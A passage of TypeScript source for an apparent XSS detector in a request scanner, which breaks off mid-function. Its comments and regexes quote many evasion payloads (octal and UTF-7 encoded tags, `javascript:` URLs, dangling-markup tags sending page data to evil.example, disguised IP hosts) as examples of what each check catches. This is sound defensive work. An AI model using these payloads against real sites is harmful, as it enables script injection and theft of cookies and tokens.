import { decodeEntities } from '../decode/entities';
import { parseIpv4Loose } from './address-scope';
import { decodeCssEscapes, isSmuggledDeclaration } from './css-style';
import { type HtmlAttr, readAttributes, readTagAt } from './html-tokens';
import { isTaglessScript } from './js-tokens';
import { clobbersDom } from './xss-clobbering';
import { withoutCodeBlocks } from './rce';

/**
 * Cross-site scripting, in the contexts a reflected value can land in: HTML text (a tag that runs
 * script, an event handler, a script URL), inside a quoted or unquoted attribute (a value that
 * closes the quote and adds a handler), a URL attribute (`javascript:`), and a JavaScript string
 * (calls to the functions payloads use). Plain markup (`<b>`, `<a href="/x">`) is not an attack.
 */
export function isXss(value: string): boolean {
  // Script without tags in a Markdown post's closed code blocks is shown, not run (like rce's reading).
  const code = value.includes('```') ? withoutCodeBlocks(value) : value;
  if (htmlContext(value, false) || attributeBreakout(value) || scriptUrl(value) || scriptCode(code) || eventAttribute(value))
    return true;
  if (STYLE_SCRIPT.test(value) || UTF7_TAG.test(value) || COMMENT_CLOSE.test(value) || XINCLUDE.test(value)) return true;
  if (HANDLER_BEGUN.test(value) || LONE_SCRIPT_CALL.test(value) || HANDLER_TAIL.test(value)) return true;
  if (value.includes('<') && isSpacedTag(value)) return true;
  if (value.includes('&#') && value.includes('=') && isScriptSchemeInReferences(value)) return true;
  if (value.includes('?xml') && TIME_NAMESPACE.test(value)) return true;
  if (value.includes('=') && SINK_WORD.test(value) && isAliasedSinkCall(value)) return true;
  if (value.includes('script') && TAGS_STRIPPED.test(value)) return true;
  // JavaScript reads a line comment as a blank too: `setTimeout//x\n(name//x\n,0)`.
  if (value.includes('//') && value.includes('\n')) {
    // Not the `/` that closes a regex literal (`/ev///x\n.source`: the regex `/ev/`, then the comment).
    const blank = value.replace(/(?<!\/\w{1,12})\/\/[^\n]{0,200}\n/g, ' ');
    if (blank !== value && (LONE_SCRIPT_CALL.test(blank) || scriptCode(blank))) return true;
  }
  if (value.includes('document') && DOM_CONTENT_WRITE.test(value)) return true;
  if (value.includes('location') && NAVIGATION_FROM_SOURCE.test(value)) return true;
  if (value.includes('=') && QUOTE_THEN_PROPERTY.test(value)) return true;
  if (value.includes('(') && VBSCRIPT_CODE.test(value)) return true;
  if (value.includes('//') && DANGLING_URL.test(value)) return true;
  if (REFLECTION_PROBE.test(value)) return true;
  if (value.includes('chemaLocation') && isForeignSchemaLocation(value)) return true;
  // JavaScript reads a comment as a blank: `document /*x*/ . cookie`, `self[/*x*/"alert"](1)`.
  if (value.includes('/*') && scriptCode(value.replace(/\/\*[^]{0,200}?\*\//g, ' '))) return true;
  if (STRAY_MARKUP_BYTE.test(value)) {
    const ascii = sevenBitReading(value);
    if (ascii !== value && isXss(ascii)) return true;
  }
  if (value.includes('\\') && OCTAL_LESS_THAN.test(value) && isXss(octalEscapeReading(value))) return true;
  // Payloads written for filters that delete tags: `o<x>nfocus=alert<x>(1)` once `<x>` is gone.
  const stripped = value.replace(/(?<=\w)<[a-z]{1,3}>(?=[\w(])/gi, '');
  return stripped !== value && (attributeBreakout(stripped) || scriptCode(stripped));
}

/**
 * JavaScript's legacy octal escapes (`\74` is `<`, `\076` is `>`, `\42` is `"`), which a string
 * literal outside strict mode still reads: `"\74svg onload=alert(1)\76"` written into the page by
 * `innerHTML` or `document.write` is the tag. Read only when `<` is among them (a tag needs one);
 * every escape of a printable ASCII character is then taken. A Windows path's `\74` is a folder
 * name, and the reading finds markup only where the rest is a tag that runs script.
 */
const OCTAL_LESS_THAN = /\\0?74(?![0-7])/;
const OCTAL_PRINTABLE = /\\(0?[4-7][0-7]|1[0-7][0-7])(?![0-7])/g;
function octalEscapeReading(value: string): string {
  return value.replace(OCTAL_PRINTABLE, (escape, octal: string) => {
    const code = parseInt(octal, 8);
    return code >= 0x20 && code < 0x7f ? String.fromCharCode(code) : escape;
  });
}

/**
 * A page served as US-ASCII, which Internet Explorer read by dropping each byte's eighth bit:
 * `¼script¾alert(¢XSS¢)¼/script¾` (bytes 0xBC, 0xBE, 0xA2; CRS 941310, written `\xbc` or `%BC`)
 * is `<script>alert("XSS")</script>`. Bytes that make UTF-8 characters (`\xd0\xbc` is the
 * Cyrillic "м", `\xc2\xbc` is "¼") are text in any charset that reads them and are kept; only
 * stray bytes, which a UTF-8 reader cannot take either, lose their eighth bit.
 */
const STRAY_MARKUP_BYTE = /[\u00bc\u00be]/;
const UTF8_OR_STRAY_BYTE =
  /[\u00c2-\u00df][\u0080-\u00bf]|[\u00e0-\u00ef][\u0080-\u00bf]{2}|[\u00f0-\u00f4][\u0080-\u00bf]{3}|([\u0080-\u00ff])/g;
function sevenBitReading(value: string): string {
  return value.replace(UTF8_OR_STRAY_BYTE, (sequence, stray: string | undefined) =>
    stray === undefined ? sequence : String.fromCharCode(stray.charCodeAt(0) & 0x7f),
  );
}

/**
 * An attribute value given as a script scheme spelled in character references, whatever junk the
 * references are broken by (`<IMGSRC=&#106;&#97;...&<WBR>#115;...`, `src=&#0000106&#0000097 &#0000115...`):
 * once a filter or the browser drops the empty tags and blanks, `=javascript:`. Whoever writes a link
 * writes its scheme; only an evader spells it in numbers (a mail address spelled so is `mailto:`).
 */
const JUNK_IN_REFERENCE = /(&#?[0-9a-z]{0,8})<[a-z]{1,8}\s*\/?>(?=[#0-9a-z;])/gi;
const SCRIPT_SCHEME_VALUE = /=["'`]?(?:javascript|vbscript):/;
function isScriptSchemeInReferences(value: string): boolean {
  const text = value.length > 4096 ? value.slice(0, 4096) : value;
  const read = compact(decodeEntities(text.replace(JUNK_IN_REFERENCE, '$1'))).toLowerCase();
  return SCRIPT_SCHEME_VALUE.test(read) && !SCRIPT_SCHEME_VALUE.test(compact(text).toLowerCase());
}
/**
 * IE's HTML+TIME vocabulary imported into the page (`<?xml:namespace prefix="t"
 * ns="urn:schemas-microsoft-com:time">`): its `<t:set attributeName="innerHTML" to="...">` writes any
 * markup into any element. Word's pasted HTML imports its own namespaces (`...:office:office`,
 * `...:vml`), never this one.
 */
const TIME_NAMESPACE = /<\?xml:namespace\b[^>]{0,200}?\bns\s*=\s*["']?\s*urn:schemas-microsoft-com:time\b/i;
/** CSS that runs script: `x:url(javascript:...)`, Mozilla's `-moz-binding`, IE's `behavior: url(...)`. */
const STYLE_SCRIPT =
  /(?:^|[\s;:{("'])url\s*\(\s*['"]?\s*(?:javascript|vbscript)\b|-moz-binding\s*:\s*url\s*\(|\bbehaviou?r\s*:\s*url\s*\(/i;
/**
 * A value that is only the end of an HTML comment (`-->`, `--!>`): it breaks out of a comment the
 * page reflects it into, and text has no other use for it alone (an arrow in text has words around it).
 */
const COMMENT_CLOSE = /^\s*--!?>\s*$/;
/**
 * An XInclude element with the resource to include (`<x xmlns:xi="http://www.w3.org/2001/XInclude">
 * <xi:include href="http://...">`): markup in a parameter that makes an XML parser or XSLT page
 * fetch and embed a document of the attacker's choosing.
 */
const XINCLUDE = /<[\w.-]+:include\b[^>]{0,200}?\bhref\s*=/i;
/**
 * A handler attribute begun without its code, after what closes an attribute or opens a tag
 * (`"onzoom=`, `<"onwebkit...=`, `'formaction=`, a parameter name `  onabcdefgh= `): the probe
 * that asks whether the page reflects an attribute; text has no name glued to a closing `=`.
 */
// One way to read each prefix (the lookahead asks for what opens it), so the scan stays linear.
/**
 * The rest of an event handler whose attribute the page opened (`<input onfocus=` + `write(1)
 * autofocus>`): the handler's code, a call, then `autofocus`, which fires a focus handler with no
 * click, and the `>` that ends the tag. Text with a call before a `>` ("f(x) > 0") names no attribute.
 */
const HANDLER_TAIL =
  /^\s*[\w$.]{1,60}\s*\([^()<>\n]{0,100}\)\s*;?\s+(?:[\w-]{1,30}(?:=[^\s<>]{0,100})?\s+){0,4}autofocus\b[^<>\n]{0,100}>/;
const HANDLER_BEGUN = /^(?=[\s<"'`])\s*(?:<\s*)?(?:["'`]\s*)?(?:on[a-z]{3,40}|formaction|srcdoc)\s*=\s*$/i;
/**
 * The whole value is one call of a script decoder or timer with names, numbers or strings as its
 * arguments (`atob()`, `setInterval(code, 1)`, `String.fromCharCode(88,83)`): the probe for a
 * script context; case-sensitive, as JavaScript reads names.
 */
const LONE_SCRIPT_CALL =
  /^\s*(?:atob|btoa|setTimeout|setInterval|unescape|execScript|(?:String\s*\.\s*)?fromCharCode)\s*\(\s*(?:(?:[\w$.]{1,30}|'[^'\n]{0,60}'|"[^"\n]{0,60}")(?:\s*,\s*(?:[\w$.]{1,30}|'[^'\n]{0,60}'|"[^"\n]{0,60}")){0,3})?\s*\)\s*;?\s*$/;
/**
 * Page content written from a value: an element found or made through `document`, then its text or
 * markup assigned (`document.querySelector("p").textContent="XSS"`,
 * `document.body.appendChild(document.createElement("h1")).textContent = "XSS"`).
 */
const DOM_CONTENT_WRITE =
  /\bdocument\s*\.\s*(?:querySelector(?:All)?|getElementById|getElementsBy[A-Za-z]{3,9}|body|head|createElement)\b[^;\n]{0,200}?\.\s*(?:textContent|innerHTML|outerHTML|innerText)\s*=(?!=)/;
/**
 * The page sent to an address the attacker controls without naming it: the location assigned from
 * what the attacker's own page sets or the URL carries (`location=name`, `top.location=name`,
 * `location.href=document.referrer`, `location=location.hash.slice(1)`, `location.replace(name)`):
 * `window.name` survives navigation, so a page that opened this one with a `javascript:` name runs
 * it. Case-sensitive, as JavaScript reads names; what follows the source ends the value or a
 * statement, opens a comment or slices it (not a quote: prose quotes the setting
 * `'location=name'`). A form's `location=Paris` assigns no source, and a field named `location` is
 * split from its value before any detector reads it (docs/detection.md, "Markup, references and
 * navigation (branch i18-markup)").
 */
const NAVIGATION_FROM_SOURCE =
  /(?:^|[^\w$.])(?:(?:window|self|top|parent|opener|document)\s*\.\s*)?location(?:\s*\.\s*href)?(?:\s*=(?!=)|\s*\.\s*(?:assign|replace)\s*\()\s*(?:(?:window|self|top|parent)\s*\.\s*)?(?:name|location\s*\.\s*(?:hash|search)|document\s*\.\s*(?:referrer|URL|documentURI|baseURI|cookie))\s*(?:$|[;,)}]|\/[/*]|\.\s*(?:slice|substr(?:ing)?|split|replace)\s*\()/;
/**
 * Internet Explorer's filter probes: what closes a string, then `in` or an operator, then a
 * property whose assignment navigates or runs code (`"in valueOf=`, `';location=`, `'-onerror=`):
 * the value goes on as script after the page's string. The JS escapes of the probe
 * (`\u0076\u0061l\u0075e\u004F\u0066`) are read by the decoding layers. Text quoting a phrase has
 * words, not `in valueOf=`, after its quote; a quote that is a unit (`5" in`) is followed by a
 * word, not one of these properties assigned.
 */
const QUOTE_THEN_PROPERTY =
  /^\s*[\w.@-]{0,40}["'`]\s*(?:(?:in\b|[-+*/%^|&;,)])\s*){1,3}(?:[\w$]{1,30}\s*\.\s*){0,3}(?:location|onerror|onload|valueOf|toString)\s*=(?!=)/;
/**
 * An XML value whose `xsi:schemaLocation` pairs a namespace with a schema fetched from another
 * domain (`xmlns="http://a.b/" ... xsi:schemaLocation="http://a.b/ http://x.attacker.example/a.xsd"`):
 * markup in a parameter that makes a validating parser fetch from the attacker's host. A schema is
 * published by its namespace's owner (Maven's POM, Spring, sitemaps: the same domain), so only a
 * location on another registrable domain (its last two labels) counts.
 */
const SCHEMA_LOCATION = /\bschemaLocation\s*=\s*["']\s*(\S{1,300})\s+(\S{1,300}?)\s*["']/i;
const URL_HOST = /^[a-z][\w+.-]{0,20}:\/\/(?:[^/\s@]{0,100}@)?([^/\s:?#"']{1,253})/i;
function isForeignSchemaLocation(value: string): boolean {
  const m = SCHEMA_LOCATION.exec(value);
  if (m === null) return false;
  const namespace = URL_HOST.exec(m[1])?.[1];
  const location = URL_HOST.exec(m[2])?.[1];
  if (namespace === undefined || location === undefined) return false;
  const domain = (host: string): string => host.toLowerCase().split('.').slice(-2).join('.');
  return domain(namespace) !== domain(location);
}
/**
 * Markup written in UTF-7 (`+ADw-script+AD4-`), for a page the browser can be made to read as UTF-7;
 * its `+` also percent-encoded where nothing decodes it (an XML attribute: `%2bADw-script%2bAD4-`).
 */
const UTF7_TAG = /(?:\+|%2b)ADw-\s*\/?(?:script|img|svg|iframe|body|html|style|a|object|embed|meta|link)\b/i;
/** UTF-7 markup alone (xss detector gated on `+`, index.ts: a value of it has none of the markup characters). */
export function isUtf7Markup(value: string): boolean {
  return UTF7_TAG.test(value);
}

/**
 * The probe that asks which characters a page reflects unescaped: a value that opens with quotes,
 * then what ends a statement, comment or tag (`>`, `;`, `!`), then an element of its own
 * with no attributes, a marker to look for in the page (`a'"><injectable>`, `'';!--"<XSS>=&{()}`).
 * Text quoting markup (`"<b>bold</b>"`) has nothing between its quote and the tag, editor HTML does
 * not open with a quote, and markup copied from a page after a stray quote has attributes
 * (`V1_OTHER_1"><IMG CLASS="SIZE-FULL ...`, libinjection's false-positive list).
 */
const REFLECTION_PROBE = /^\s*\w{0,12}['"`]{1,3}[^<\w\s]{0,8}?[>;!][^<\w\s]{0,8}\s{0,3}<[a-z][\w:-]{0,20}\s{0,3}\/?>/i;

/**
 * Dangling markup: after what closes the page's attribute or tag, a tag whose URL attribute opens a
 * quote, names another host and is never closed (`"><img src='//evil.example/log?`,
 * `'><table background='https://evil.example/?`): the browser
 * takes the page's own text up to its next quote as the rest of the URL's query and sends it there
 * (tokens, form values), with no script at all. A whole tag (`<img src="https://cdn.example/a.png">`)
 * closes its quote, a link cut short without a query (`<a href="https://example.com/page`) has
 * nowhere to carry the page, and a post cut short in a link (`Here's a video: <a href="https://...?v=`,
 * a CRS false-positive test) breaks out of nothing.
 */
const DANGLING_URL =
  /^\s*(?:['"`]\s*)?\/?>\s*<[a-z][\w-]{0,20}(?:\s[^<>]{0,200})?\s(?:src|href|action|formaction|background|poster|data|cite|ping|lowsrc|dynsrc)\s*=\s*(['"])\s*(?:[a-z][\w+.-]{0,20}:)?\/\/[^'"\s<>?]{1,300}\?[^'"\s<>]{0,100}$/i;

/**
 * VBScript, which Internet Explorer runs in `vbscript:` URLs and `<script language=vbscript>`: a
 * message box given a string, a `Chr()` or the document (`MsgBox("XSS")`, `msgbox(document.cookie)`),
 * `Execute` given a message box or character codes (`Execute(MsgBox(chr(88)&chr(83)))`), and a
 * string built from character codes joined by `&` (`chr(88)&chr(83)`, VBScript's
 * `String.fromCharCode`). Case-insensitive, as VBScript reads names. `MsgBox "Hello"` of a VBA
 * forum post (no parenthesis), `MsgBox(x)` of a variable and a lone `Chr(10)` are not.
 */
const VBSCRIPT_CODE =
  /(?:^|[^\w$.])(?:msgbox\s*\(\s*(?:["']|chrw?\s*\(|document\s*\.)|execute(?:global)?\s*\(\s*(?:msgbox\b|chrw?\s*\())|\bchrw?\s*\(\s*\d{1,5}\s*\)\s*&\s*chrw?\s*\(\s*\d/i;

/**
 * A tag whose name is spelled with spaces between its letters (`<f o r m`, `<d i a l o g`) or after
 * a namespace prefix (`< x: script`): written for filters that look for the name, where a lenient
 * parser or a later step that removes spaces makes the element. Only names of elements that run
 * script or take input count, so `<a b c` (a comparison in text) is no tag.
 */
const SPACED_TAG = /<\s*(?:[a-z][\w-]{0,20}:\s+(script|iframe|svg|form)\b|((?:[a-z]\s+){2,11}[a-z])(?![a-z]))/gi;
const SPACED_TAG_NAMES = new Set([
  'script',
  'iframe',
  'frame',
  'object',
  'embed',
  'applet',
  'form',
  'dialog',
  'svg',
  'img',
  'image',
  'input',
  'body',
  'style',
  'video',
  'audio',
  'details',
  'marquee',
  'textarea',
  'button',
  'select',
  'template',
  'math',
  'meta',
  'link',
  'base',
]);
function isSpacedTag(value: string): boolean {
  SPACED_TAG.lastIndex = 0;
  let m: RegExpExecArray | null;
  for (let n = 0; (m = SPACED_TAG.exec(value)) !== null && n < 16; n++) {
    if (m[1] !== undefined) return true;
    if (SPACED_TAG_NAMES.has(m[2].replace(/\s+/g, '').toLowerCase())) return true;
  }
  return false;
}

/**
 * A script element whose brackets a filter removed (`scriptalert(1)/script`,
 * `>"scriptdocument.cookie=true;/script`): the word `script` glued to a call or a DOM write, then
 * `/script` closing it; what the same payload becomes once its brackets are put back.
 */
const TAGS_STRIPPED = /script(?:alert|prompt|confirm|eval|document\.|window\.|location)[^\n]{0,200}?\/script\b/i;

/**
 * A parameter named by a script's sink or source (`document.cookie=...`, `window.location=...`): the
 * name a page's script reads the query by, or a form field that a page echoes as code; no form or
 * API names its fields this way. Also a value that is only such a reference (`window.location`,
 * `top.location.href`, `document.cookie`): the probe for a script context that evaluates it (CRS
 * 941180's keywords); documentation naming one has words around it, and `self.name` (Python's
 * attribute) is not one.
 */
const SCRIPT_SINK_NAME =
  /^\s*(?:(?:window|self|top)\.)?(?:document\.(?:cookie|domain|location(?:\.href)?|write|writeln|referrer|url)|location\.(?:href|hash|search)|window\.(?:location(?:\.href)?|name)|(?:self|top|parent|opener)\.location(?:\.href)?)\s*;?\s*$/i;
export function isScriptSinkName(key: string): boolean {
  return key.length <= 40 && SCRIPT_SINK_NAME.test(key);
}

/**
 * A whole XML document: only what runs script counts, since XML vocabularies legitimately use
 * names such as <link>, <meta>, <set> or <style>.
 */
export function isXssInMarkup(doc: string): boolean {
  return htmlContext(doc, true);
}

const SCRIPT_TAGS = new Set([
  'xml-stylesheet',
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'base',
  'meta',
  'link',
  'style',
  'import',
  'xml',
  'isindex',
  'xss',
  'vmlframe',
  'handler',
  'listener',
  'set',
  'animate',
  'layer',
  'ilayer',
  'bgsound',
  // Embeds another page like an iframe (Chrome's portals).
  'portal',
]);
const URL_ATTRS = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'data',
  'xlink:href',
  'background',
  'poster',
  'lowsrc',
  'dynsrc',
  'code',
  'codebase',
  'values',
  'to',
  'from',
  'by',
  'content',
  'value',
  'folder',
]);

const SCRIPT_SOURCE = /^(?:src|(?:[\w-]+:)?href)$/i;
/**
 * A stylesheet instruction that loads the site's own file by a relative path (`href="style.xsl"`,
 * a CRS false-positive test) runs nothing of the attacker's; one that embeds its stylesheet in the
 * document (`href="#"`), names none (`type="text/css"`) or loads from elsewhere does.
 */
const SITE_STYLESHEET = /^\s*[\w-][\w./-]*\.(?:xslt?|css)\s*$/i;
const MARKUP_SCRIPT_TAGS = new Set(['script', 'iframe', 'frame', 'object', 'embed', 'applet']);

/**
 * A tag closed by its own `>` whose attributes are all bare names (`Function<Object data>`, a type
 * written as documentation shows it): a bare attribute's value is the empty string, and an empty
 * URL loads nothing, so such an `<object>`, `<iframe>` or `<embed>` runs nothing. One left open
 * (`<object data`) takes whatever of the page follows as its attributes, and a bare handler name
 * (`<iframe onload>`) is a scanner's probe for kept handlers: both still count.
 */
function hasOnlyBareAttributes(s: string, tag: { attrs: HtmlAttr[]; end: number }): boolean {
  return s.charCodeAt(tag.end - 1) === 0x3e && tag.attrs.every((a) => a.value === null && !a.name.startsWith('on'));
}

/**
 * A script-running tag counts when it can run something: `<script>` always (inline code, or the
 * closing tag of a string breakout), `<style>` for its CSS, the others only with attributes
 * (`Iterable<object>` in documentation is not an `<object>` element).
 */
function htmlContext(s: string, markup: boolean): boolean {
  const tags = markup ? MARKUP_SCRIPT_TAGS : SCRIPT_TAGS;
  // Once a tag runs to the end of the text unclosed, everything after it was read as its
  // attributes; later tags are then only checked by name, which keeps the scan linear.
  let unclosed = false;
  for (let lt = s.indexOf('<'); lt >= 0; lt = s.indexOf('<', lt + 1)) {
    // `<:vmlframe src=`: a namespace prefix left empty, which IE read as the element's own name.
    const tag = readTagAt(s, lt, !unclosed) ?? (s.charCodeAt(lt + 1) === 0x3a ? readTagAt(s, lt + 1, !unclosed) : null);
    if (tag === null) continue;
    if (tag.end >= s.length && !unclosed) unclosed = !s.endsWith('>');
    // A lone `<script` (a search for the word, "what is a <script tag") is no element: it needs its
    // `>`, a source to load (`<script src=//x.js`, closed by the page's next `>`) or to be a closing tag.
    // `<v:vmlframe>`: the element's own name after a namespace prefix.
    const name = tag.name.includes(':') ? tag.name.slice(tag.name.lastIndexOf(':') + 1) : tag.name;
    if (name === 'script' && !tag.closing) {
      const close = dataBlockEnd(s, tag);
      if (close > 0) {
        lt = close;
        continue;
      }
    }
    if (
      tags.has(name) &&
      (name === 'script'
        ? tag.closing ||
          tag.attrs.some((a) => a.value !== null && SCRIPT_SOURCE.test(a.name)) ||
          s.charCodeAt(tag.end - 1) === 0x3e
        : name === 'xml-stylesheet'
          ? !tag.attrs.some((a) => a.name.toLowerCase() === 'href' && a.value !== null && SITE_STYLESHEET.test(a.value))
          : !tag.closing &&
            (name === 'style'
              ? tag.attrs.length > 0 || !isInertStyleElement(s, tag.end)
              : tag.attrs.length > 0 && !hasOnlyBareAttributes(s, tag)) &&
            !linksTemplatePlaceholder(tag.attrs))
    )
      return true;
    if (!tag.closing && tag.attrs.some((a) => dangerousAttr(a, false))) return true;
    // Not in a whole XML document, whose vocabularies name their own elements freely.
    if (!markup && !tag.closing && clobbersDom(name, tag.attrs)) return true;
  }
  return false;
}

/**
 * An element whose links are a server template's placeholders (`<link href="{{ asset('app.css') }}">`,
 * `<iframe src="{% url 'home' %}">`): template source shown as text, not markup a browser loads
 * anything from, since no URL is there until the template renders it (branch i18-rce5). Its
 * handlers and script URLs are still read (dangerousAttr).
 */
const TEMPLATE_PLACEHOLDER = /^\s*(?:\{\{[^{}]{1,200}\}\}|\{%[^{}%]{1,200}%\})\s*$/;
function linksTemplatePlaceholder(attrs: readonly HtmlAttr[]): boolean {
  let links = 0;
  for (const a of attrs) {
    if (a.value === null || !URL_ATTRS.has(a.name.toLowerCase())) continue;
    if (!TEMPLATE_PLACEHOLDER.test(a.value)) return false;
    links++;
  }
  return links > 0;
}

function dangerousAttr(a: HtmlAttr, strict: boolean): boolean {
  // Attribute names are short; a long one is text that ran on and names nothing.
  if (a.name.length > 64) return false;
  const name = a.name.replace(/^[^a-z]+/, '');
  if (name.length > 2 && name.startsWith('on') && a.value !== null) {
    return !strict || EVENTS.has(name.slice(2));
  }
  if (a.value === null) return false;
  if (URL_ATTRS.has(name) && (isScriptLink(a.value) || isDisguisedUrl(a.value))) return true;
  // A submit button that sends the page's form elsewhere: no editor or user content writes one.
  if (name === 'formaction') return /^\s*(?:[a-z][\w+.-]{0,20}:)?\/\//i.test(decodeEntities(a.value));
  if (name === 'srcdoc') return /<[a-z]/i.test(decodeEntities(a.value));
  if (name === 'style') {
    const css = decodeEntities(a.value);
    // Only an attribute named `style` itself: Vue's `:style="{ color: x }"` binds a script object.
    return STYLE_CODE.test(compact(decodeCssEscapes(css))) || (a.name === 'style' && isSmuggledDeclaration(css));
  }
  // An input's pattern with a quantified group that holds a quantifier (`^((a+.)a)+$`): the
  // browser's regular expression backtracks without end on a long value (ReDoS); a format
  // (`[0-9]{5}`, `[a-z]+@[a-z]+`) has no such group.
  if (name === 'pattern') return hasNestedQuantifier(a.value);
  // XML Events (`ev:event="load" ev:handler="#x"`): a handler bound by markup, no `on*` attribute needed.
  if (/^[\w-]{1,20}:handler$/.test(name)) return true;
  // IE data binding renders the bound source as HTML.
  return name === 'dataformatas' && /html/i.test(a.value);
}

/**
 * A link whose host is written so that a filter of hosts misses it and the browser still goes there:
 * tabs or line breaks inside the scheme or host, which browsers drop (`h\tt\tp://6\t6.000146.0x7.147/`);
 * an IPv4 address as one number, in hex or octal parts (`http://1113982867/`,
 * `http://0x42.0x0000066.0x7.0x93/`, `http://0102.0146.0007.00000223/`); a percent-encoded host
 * (`http://%77%77%77%2E...`); user info that is itself a host name (`http://ha.ckers.org@google`).
 * Read with the address reader ssrf uses (address-scope.ts). Links to a name or a dotted address
 * (`http://192.168.1.1/`), and `user@host` credentials, are not.
 */
function isDisguisedUrl(raw: string): boolean {
  const v = decodeEntities(raw).trim();
  // Tabs and line breaks inside the host too (`6&#09;6.000146...`): the browser drops them.
  const m = /^([a-z][\w+.\t\r\n-]{0,20}):[\t\r\n]*\/[\t\r\n]*\/((?:[^/?#\s]|[\t\r\n]){0,300})/i.exec(v);
  if (m === null) return false;
  if (/[\t\r\n]/.test(m[0])) return true;
  const authority = m[2];
  const at = authority.lastIndexOf('@');
  const hostPort = authority.slice(at + 1).toLowerCase();
  // Where the port goes, a dotted name (`http://google:ha.ckers.org`) or nothing before another
  // `//` (`http://www.gohttp://www.google.com/ogle.com/`): two hosts in one link, the filter reads one.
  if (
    /:(?:[a-z0-9-]*[a-z-][a-z0-9-]*\.[a-z0-9.-]+|)$/.test(hostPort) &&
    (hostPort.endsWith(':') ? v.startsWith('//', m[0].length) : true)
  )
    return true;
  const host = hostPort.replace(/:\d{0,5}$/, '');
  // A name ending in its root's dot (`www.google.com.`): the same host to DNS, another string to a filter.
  if (/^[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63})+\.$/.test(host)) return true;
  if (/%[0-9a-f]{2}/i.test(host)) return true;
  if (at > 0 && /^[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){2,}$/i.test(authority.slice(0, at))) return true;
  return (
    /^[0-9a-fx.]+$/.test(host) &&
    !/^\d{1,3}(?:\.\d{1,3}){3}$/.test(host) &&
    /\d{5,}|0x|(?:^|\.)0\d/.test(host) &&
    parseIpv4Loose(host) !== null
  );
}

/** A group quantified by `+`, `*` or `{n,}` that holds a quantifier itself (`(a+)+`, `((a+.)a)+`, `(\w*)*`). */
function hasNestedQuantifier(p: string): boolean {
  if (p.length > 512) return false;
  const open: number[] = [];
  for (let i = 0; i < p.length; i++) {
    const c = p[i];
    if (c === '\\') i++;
    else if (c === '(') open.push(i);
    else if (c === ')' && open.length > 0) {
      const from = open.pop() as number;
      if (/^[+*]|^\{\d{1,4},/.test(p.slice(i + 1, i + 8)) && /[+*]|\{\d{1,4},/.test(p.slice(from + 1, i))) return true;
    }
  }
  return false;
}

/** CSS in a `style` attribute that runs script (read after its escapes: `\65 xpression(`). */
const STYLE_CODE = /expression\(|javascript:|-moz-binding|behaviou?r:|binding:/i;

/** A value that is itself an event handler attribute (`onclick=eval(...)`, for an unquoted attribute context). */
function eventAttribute(s: string): boolean {
  if (!/^\s*on[a-z]{3,30}\s*=/i.test(s)) return false;
  return readAttributes(s, 0).attrs.some((a) => dangerousAttr(a, true) && /[(`=]/.test(a.value ?? ''));
}

/** A value that closes the attribute it was put in (`"`, `'`, or a space when unquoted). */
function attributeBreakout(s: string): boolean {
  for (const q of ['"', "'", '`']) {
    const at = s.indexOf(q);
    if (at >= 0 && readAttributes(s, at + 1).attrs.some((a) => dangerousAttr(a, true))) return true;
  }
  const sp = s.search(/[\s/]/);
  return sp >= 0 && readAttributes(s, sp + 1).attrs.some((a) => dangerousAttr(a, true));
}

/**
 * A bare value used as a link; text such as "JavaScript: the basics" is not code. MHTML links and
 * HTML data URLs anywhere in the value are documents of the attacker's making.
 */
function scriptUrl(s: string): boolean {
  if (/^\s*mhtml:/i.test(s) || /(?:^|["'=\s(])data:text\/html[;,]/i.test(s)) return true;
  if ((s.includes('&') || /[\t\n\r]/.test(s)) && isSpelledScriptScheme(s)) return true;
  // Code made of escapes (`javascript:\\u0020`): what hides the code a filter looks for.
  if (s.includes('\\') && isScriptUrl(s) && SCRIPT_ESCAPE.test(s)) return true;
  return isScriptUrl(s) && /[(`=[]/.test(s) && !NO_OP_SCRIPT_URL.test(s);
}

/** `javascript:`, `javascript:void(0)`, `javascript:;`: the link of an editor's or page's button, which runs nothing. */
const NO_OP_SCRIPT_URL = /^\s*javascript:\s*(?:void\s*\(?\s*0\s*\)?)?\s*;?\s*$/i;
/**
 * A script URL that runs something: rich-text editors and pasted pages keep `href="javascript:void(0)"`
 * on their buttons (docs/detection.md, "i18-fpr, second session"); `javascript:alert(1)` runs.
 */
function isScriptLink(v: string): boolean {
  return isScriptUrl(v) && !NO_OP_SCRIPT_URL.test(decodeEntities(v));
}

/**
 * A `<style>` element closed by `</style>` whose CSS can run or fetch nothing of the attacker's and
 * reads one way: the pasted or edited HTML of a rich-text editor (`<style>.hero { color: red; }
 * </style>`). CSS runs script through `expression(`, `behavior:`, `-moz-binding` and script URLs,
 * loads through `@import` and `url(`, and confuses parsers with brackets, comments, escapes and
 * unbalanced braces (html5sec's `#x{font-family:foo[bar;...}`); a plain `url(` of a page or site
 * path is an image or a font. An unclosed `<style>` is a probe for tag injection and still counts.
 */
const STYLE_CLOSE = /<\/style\s*>/gi;
const CSS_NOT_PLAIN = /[[\]<\\@]|\/\*|&#|expression|behaviou?r|binding|script|url\s*\(/i;
function isInertStyleElement(s: string, from: number): boolean {
  // An unclosed element returns (htmlContext reports it), so each search ends at its own close.
  STYLE_CLOSE.lastIndex = from;
  const close = STYLE_CLOSE.exec(s);
  if (close === null || close.index - from > 8192) return false;
  const css = s.slice(from, close.index).replace(PLAIN_CSS_URL, '');
  if (CSS_NOT_PLAIN.test(css.replace(/@(?:media|font-face|keyframes|supports)\b/gi, ''))) return false;
  let depth = 0;
  for (let i = 0; i < css.length; i++) {
    const c = css.charCodeAt(i);
    if (c === 0x7b && ++depth > 2) return false;
    if (c === 0x7d && --depth < 0) return false;
  }
  return depth === 0;
}

/**
 * A data block (`<script type="application/ld+json">{"@context":"https://schema.org"}</script>`):
 * structured data of SEO plugins and page builders, which the browser never runs (HTML's script
 * element runs only JavaScript and module types). Its type is a JSON or template type, it names no
 * source and no handler, and its text holds no `<` up to its own `</script>`: the index of that
 * closing tag, or -1 when the element is no such block.
 */
const DATA_BLOCK_TYPE = /^\s*(?:application\/(?:ld\+json|json)|text\/(?:x-)?template|text\/x-handlebars-template)\s*$/i;
const SCRIPT_CLOSE = /<\/script\s*>/gi;
function dataBlockEnd(s: string, tag: { attrs: HtmlAttr[]; end: number }): number {
  if (s.charCodeAt(tag.end - 1) !== 0x3e) return -1;
  let typed = false;
  for (const a of tag.attrs) {
    const name = a.name.toLowerCase();
